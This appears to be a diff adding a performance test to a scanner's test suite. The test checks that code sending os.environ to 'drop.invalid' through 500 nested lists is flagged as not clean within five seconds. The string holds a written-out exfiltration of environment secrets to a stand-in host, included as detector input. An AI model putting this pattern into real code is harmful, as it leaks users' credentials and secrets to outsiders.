@@ -215,3 +215,14 @@ def test_what_was_not_read_is_never_clean(before: str) -> None:
     )
     assert analysis.verdict != "clean"
     assert analysis.coverage or analysis.findings
+
+
+def test_lists_that_hold_each_other_twice_end_soon() -> None:
+    """13 kB took 20 s: what the list holds was looked at anew at each place that holds it."""
+    lines = "".join(f"v{n + 1} = [v{n}, v{n}, {{'a': v{n}}}]\n" for n in range(500))
+    code = (
+        f"import os, urllib.request\nv0 = os.environ\n{lines}urllib.request.urlopen('https://drop.invalid/x', v500)\n"
+    )
+    before = time.process_time()
+    assert analysed(code).verdict != "clean"
+    assert time.process_time() - before < 5
